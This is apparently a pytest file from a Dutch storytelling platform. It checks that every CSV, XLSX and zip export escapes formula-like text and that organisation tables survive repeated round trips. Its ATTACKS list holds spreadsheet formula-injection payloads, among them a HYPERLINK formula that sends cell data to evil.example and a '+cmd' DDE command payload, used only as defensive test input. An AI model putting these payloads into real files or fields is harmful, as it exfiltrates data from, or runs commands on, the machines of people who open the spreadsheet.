"""Exports are safe to open, and round trips stay clean (the charts: tests/test_chart_links.py).

An attacker types a formula where a name or a story goes (=HYPERLINK sends a spreadsheet's data away
when it is opened, +cmd and @SUM ran programs in old Excel). Every download is found through the URL
map, not listed by hand, so a new CSV, XLSX or zip route is attacked without a new test. The
organisation table goes out and comes back ten times without growing quotes, and no module writes a
table other than through linkgen/cells.py."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import secrets
import sys
import unicodedata
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select

from linkgen import cells
from linkgen import table as tables
from tests.conftest import csrf_from, login
from tests.table_writers import bypasses
from vertelpunt.coalition import services as coalition
from vertelpunt.extensions import db
from vertelpunt.models import (
    Action,
    ActionReview,
    DuidingSession,
    Link,
    Observation,
    Organisation,
    SessionStory,
    Story,
    Theme,
)
from vertelpunt.share import services as sharing
from vertelpunt.staff import services
from vertelpunt.text import clean_text

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "notebooks"))
from storycycle_export import load  # noqa: E402

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=al gequote",
    " =1+1 met spatie",
    "\t=1+1 na een tab",
    "\r=1+1 na een regeleinde",
    "\uff1dHYPERLINK(1) breed",
    "\u00a0\uff20breed na een harde spatie",
    "\u200b-1+1 na een onzichtbaar teken",
]
# Names from the issue and worse: each must come back from the table exactly as it went out.
TABLE_NAMES = ["=Gemeente", "-Jeugdzorg", "'Quoted", "@home", "'=Gemeente", "+31 Zorg", "''@twee", " =los"]
SPREADSHEET_TYPES = ("text/csv", "text/tab-separated-values", "application/zip", "spreadsheetml", "ms-excel")
FORMULA_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"  # Excel in East Asian locales reads the full-width ones too


def runs_as_formula(cell: str) -> bool:
    """What a careless spreadsheet does with a CSV cell, written apart from linkgen/cells.py: a tab or a
    line break in front always counts; otherwise it skips spaces and invisible characters and looks for a
    formula sign. A leading ' makes the cell text."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    visible = [c for c in cell if not (c.isspace() or unicodedata.category(c)[0] in "CZ")]
    return bool(visible) and visible[0] in FORMULA_SIGNS


def _story(link, title: str, text: str) -> None:
    sub = sharing.Submission(prompt="helped", title=title, text=text)
    sub.answers.append(sharing.Answer("tone", number=40.0))
    sharing.store_submission(sub, link, secrets.token_urlsafe(18), "nl", today=dt.date.today())


def _hostile_world(traject) -> dict:
    """Every text a person types that ends up in a download, each starting like a formula."""
    links = []
    for i, attack in enumerate(ATTACKS):
        org = services.create_organisation(
            traject, name=f"{attack} {i}", organisation_type="school", contact_person=attack
        )
        links.append(services.create_link(traject, organisation=org, audience="parent", channel=attack[:60]))
    db.session.flush()
    for i in range(12):
        attack = ATTACKS[i % len(ATTACKS)]
        _story(
            links[i % len(links)], title=f"{attack[:40]}", text=f"{attack} en toen ging het mis op school."
        )
    db.session.flush()
    session = DuidingSession(
        traject_id=traject.id,
        title=ATTACKS[0],
        held_on=dt.date.today(),
        join_code="FORMULA1",
        status="closed",
    )
    db.session.add(session)
    db.session.flush()
    theme = Theme(session_id=session.id, name=ATTACKS[1])
    db.session.add(theme)
    db.session.flush()
    story_ids = [s.id for s in db.session.scalars(select(Story).where(Story.traject_id == traject.id))]
    for story_id in story_ids[:3]:
        db.session.add(SessionStory(session_id=session.id, story_id=story_id))
    observation = Observation(session_id=session.id, text=ATTACKS[2], theme_id=theme.id)
    action = Action(
        traject_id=traject.id,
        session_id=session.id,
        theme_id=theme.id,
        title=ATTACKS[3],
        owner_organisation=ATTACKS[0],
        next_step=ATTACKS[2],
        status="open",
    )
    db.session.add_all([observation, action])
    db.session.flush()
    db.session.add(
        ActionReview(
            action_id=action.id,
            session_id=session.id,
            status="open",
            obstacles=ATTACKS[1],
            opportunities=ATTACKS[3],
            next_step=ATTACKS[0],
            reviewed_on=session.held_on,
        )
    )
    db.session.commit()
    return {
        "session_id": session.id,
        "action_id": action.id,
        "link_id": links[0].id,
        "token": links[0].token,
        "story_id": story_ids[0],
        "observation_id": observation.id,
        "theme_id": theme.id,
    }


def _grid_from_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    delimiter = max(";,\t", key=text.split("\n", 1)[0].count)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _xlsx_problems(data: bytes, name: str) -> tuple[list[str], list[str]]:
    """Cells that would run (a formula, or formula-like text without the quote-prefix style), and all texts."""
    problems, texts = [], []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                texts.append(str(cell.value))
                if cell.data_type == "f":
                    problems.append(f"{name}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str) and cell.data_type != "s":
                    problems.append(f"{name}!{cell.coordinate} is not a typed string: {cell.value!r}")
                elif isinstance(cell.value, str) and runs_as_formula(cell.value) and not cell.quotePrefix:
                    problems.append(f"{name}!{cell.coordinate} has no quote prefix: {cell.value!r}")
    return problems, texts


def _check_download(name: str, data: bytes) -> tuple[list[str], list[str]]:
    """(problems, cell texts) of one downloaded file, looking inside a zip."""
    if data.startswith(b"PK\x03\x04") and not name.endswith(".xlsx"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            found = [_check_download(f"{name}/{inner}", archive.read(inner)) for inner in archive.namelist()]
        return [p for f in found for p in f[0]], [t for f in found for t in f[1]]
    if name.endswith(".xlsx"):
        return _xlsx_problems(data, name)
    if not name.endswith((".csv", ".tsv")):
        return [], []
    texts = [cell for row in _grid_from_csv(data) for cell in row]
    problems = [f"{name}: {t!r} runs as a formula" for t in texts if runs_as_formula(t)]
    return problems, texts


def _downloads(app, client, objects) -> dict[str, bytes]:
    """Every GET route we can fill in whose answer is a spreadsheet or an archive of them."""
    samples = {"slug": "testregio", "filename": "narrator.css", **objects}
    found = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        missing = set(rule.arguments) - set(samples)
        looks_like_table = re.search(r"\.(csv|tsv|xlsx|zip)$", rule.rule)
        assert not (missing and looks_like_table), f"{rule.rule}: give this test a sample for {missing}"
        if missing:
            continue
        with app.test_request_context():
            url = app.url_for(rule.endpoint, **{k: samples[k] for k in rule.arguments})
        response = client.get(url)
        kind = response.headers.get("Content-Type", "")
        disposition = response.headers.get("Content-Disposition", "")
        if response.status_code != 200:
            continue
        if any(t in kind for t in SPREADSHEET_TYPES) or re.search(r"\.(csv|tsv|xlsx|zip)\b", disposition):
            filename = re.search(r"filename=\"?([^\";]+)", disposition)
            found[rule.endpoint] = (filename.group(1) if filename else rule.rule, response.data)
    return found


DOWNLOADS = {
    "admin": {
        "coalition.response_csv",
        "coalition.table_csv",
        "coalition.table_xlsx",
        "evolve.ledger_csv",
        "evolve.export_zip",
    },
    "begeleider": {"evolve.ledger_csv", "evolve.export_zip"},
    "coalitie": {
        "coalition.response_csv",
        "coalition.table_csv",
        "coalition.table_xlsx",
        "evolve.ledger_csv",
    },
}


@pytest.mark.parametrize("role", sorted(DOWNLOADS))
def test_every_downloadable_table_writes_attacks_as_text(app, client, users, traject, role):
    objects = _hostile_world(traject)
    login(client, role)
    downloads = _downloads(app, client, objects)
    expected = DOWNLOADS[role]
    assert expected <= set(downloads), sorted(downloads)
    problems = []
    for endpoint, (name, data) in downloads.items():
        found, texts = _check_download(name, data)
        problems += found
        # Not vacuous: the attack really is in the file, escaped (or a typed XLSX string).
        assert any(a.strip() in t for t in texts for a in ATTACKS), f"{endpoint}: no attack text found"
    assert problems == []


def test_research_export_round_trips_the_attacks_unchanged(client, users, traject, tmp_path):
    _hostile_world(traject)
    login(client, "admin")
    archive = client.get("/staff/trajecten/testregio/onderzoek.zip")
    document = client.get("/staff/trajecten/testregio/onderzoek.json")
    assert archive.status_code == 200 and document.status_code == 200
    with zipfile.ZipFile(io.BytesIO(archive.data)) as z:
        raw = z.read("stories.csv").decode("utf-8")
    assert "\n'=HYPERLINK" in raw or ",'=HYPERLINK" in raw or "\"'=HYPERLINK" in raw
    (tmp_path / "export.zip").write_bytes(archive.data)
    (tmp_path / "export.json").write_bytes(document.data)
    from_zip, from_json = load(tmp_path / "export.zip"), load(tmp_path / "export.json")
    stored = {s.id: (s.title, s.text) for s in db.session.scalars(select(Story))}
    read = {int(r.story_id): (r.title, r.text) for r in from_zip["stories"].itertuples()}
    assert read == stored
    for name in from_zip.tables:
        assert from_zip[name].equals(from_json[name]), name
    # The JSON document holds every text as it is: no quote was put before it.
    assert any(s["title"].startswith("=HYPERLINK") for s in json.loads(document.data)["tables"]["stories"])


def _post_table(client, data: bytes, filename: str):
    page = client.get("/staff/trajecten/testregio/table").get_data(as_text=True)
    return client.post(
        "/staff/trajecten/testregio/table",
        data={"csrf_token": csrf_from(page), "file": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def _names(traject) -> list[str]:
    return sorted(db.session.scalars(select(Organisation.name).where(Organisation.traject_id == traject.id)))


def test_organisation_table_survives_ten_round_trips_through_the_site(client, users, traject):
    header = "Organisatie;Contactpersoon;Doelgroep;Leeftijdsgroep;Gemeente;Soort organisatie;Kanaal"
    # The first upload is a table as the platform itself writes it (a ' before each formula-like text):
    # "=Gemeente" and "'=Gemeente" are two organisations.
    lines = [
        f'"{cells.escape(n)}";"{cells.escape(n)}";Ouders;;;School;"{cells.escape(n[:20])}"'
        for n in TABLE_NAMES
    ]
    login(client, "coalitie")
    response = _post_table(client, ("\r\n".join([header, *lines]) + "\r\n").encode("utf-8"), "tabel.csv")
    assert response.status_code == 200, response.get_data(as_text=True)
    want = sorted(" ".join(n.split()) for n in TABLE_NAMES)
    assert _names(traject) == want
    links = db.session.scalar(select(func.count(Link.id)).where(Link.organisation_id.is_not(None)))
    for trip in range(10):
        kind = "csv" if trip % 2 == 0 else "xlsx"
        download = client.get(f"/staff/trajecten/testregio/table.{kind}")
        assert download.status_code == 200
        assert _check_download(f"table.{kind}", download.data)[0] == []
        response = _post_table(client, download.data, f"terug.{kind}")
        assert response.status_code == 200, response.get_data(as_text=True)
        db.session.expire_all()
        assert _names(traject) == want, f"after {trip + 1} trips"
        contacts = db.session.scalars(
            select(Organisation.contact_person).where(Organisation.traject_id == traject.id)
        )
        assert sorted(contacts) == want
    assert db.session.scalar(select(func.count(Link.id)).where(Link.organisation_id.is_not(None))) == links


# Names as people (and attackers) type them: formula signs, quotes and spaces in front of anything; what
# the platform stores is the cleaned, single-spaced text.
NAME = st.builds(
    lambda head, tail: " ".join(clean_text(head + tail).split())[:80],
    st.lists(st.sampled_from(["=", "+", "-", "@", "'", "''", " ", "\t", "\uff1d", "\u200b"]), max_size=4).map(
        "".join
    ),
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Co", "Cn")), max_size=30),
).filter(lambda n: n and n.strip("'"))


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(NAME, min_size=1, max_size=4, unique_by=lambda n: " ".join(n.split()).casefold()))
@example(names=TABLE_NAMES[:-1])
def test_any_name_survives_ten_exports_and_imports(traject, names):
    try:
        data = _csv_table([[n, "Ouders", "School"] for n in names])
        report = coalition.import_table(traject, data, "tabel.csv")
        assert report.imported, report.problems
        before = _names(traject)
        assert before == sorted(names)
        for trip in range(10):
            rows = coalition.table_rows(traject)
            if trip % 2:
                data, filename = tables.write_xlsx(rows), "terug.xlsx"
            else:
                data, filename = tables.write_csv(rows), "terug.csv"
            report = coalition.import_table(traject, data, filename)
            assert report.imported and report.organisations_created == 0, report.problems
            assert _names(traject) == before, f"after {trip + 1} trips"
    finally:
        db.session.rollback()


def _csv_table(rows: list[list[str]]) -> bytes:
    """A table as the platform writes it: what a spreadsheet would run carries a ' in front."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["Organisatie", "Doelgroep", "Soort organisatie"])
    writer.writerows([[cells.escape(v) for v in row] for row in rows])
    return out.getvalue().encode("utf-8")


def test_the_source_scan_sees_a_bypass():
    """The scan below is only worth something if it catches the ways a table is written."""
    examples = {
        "import csv\ncsv.writer(out).writerow(row)": "csv.writer",
        "import csv\nw = csv.DictWriter(out, fields)": "csv.DictWriter",
        "from csv import writer\nwriter(out)": "from csv import writer",
        "import pandas as pd\nframe.to_csv(out)": "to_csv",
        "import pandas as pd\nframe.to_excel(out)": "to_excel",
        "import xlsxwriter": "xlsxwriter",
        "from openpyxl import Workbook\nWorkbook().active.append(row)": "sheet.append",
        "def f(name):\n    from openpyxl import Workbook\n    sheet = Workbook().active\n    sheet['A1'].value = name": "cell.value =",
        "import openpyxl\nbook = openpyxl.Workbook()\nbook.active.cell(1, 1, value=name)": "cell(value=...)",
    }
    for source, kind in examples.items():
        assert any(kind in f for f in bypasses(source, "x.py")), source
    # The platform's own ledger.to_csv() is no pandas call, and reading a table is no writing.
    assert bypasses("from vertelpunt.evolve import ledger\nledger.to_csv(rows)", "x.py") == []
    assert bypasses("import csv\nrows = list(csv.reader(out))", "x.py") == []


def test_every_csv_and_workbook_is_written_through_the_one_helper():
    """A new export cannot bypass the escaping: only linkgen/cells.py makes a csv writer, and every text
    in a workbook is set by its xlsx_cell."""
    offenders = []
    scanned = 0
    for folder in ("vertelpunt", "linkgen", "sensemaking", "notebooks", "scripts"):
        for path in (ROOT / folder).rglob("*.py"):
            relative = path.relative_to(ROOT).as_posix()
            if relative == "linkgen/cells.py":
                continue
            scanned += 1
            offenders += bypasses(path.read_text(encoding="utf-8"), relative)
    assert scanned > 50
    assert offenders == []
    # The writers that exist do use the helper (a renamed import would not slip past the check above).
    for relative in (
        "linkgen/table.py",
        "vertelpunt/evolve/research_export.py",
        "vertelpunt/evolve/ledger.py",
    ):
        assert "from linkgen import cells" in (ROOT / relative).read_text(encoding="utf-8"), relative
    assert "from linkgen import cells" in (ROOT / "vertelpunt/coalition/exports.py").read_text(
        encoding="utf-8"
    )
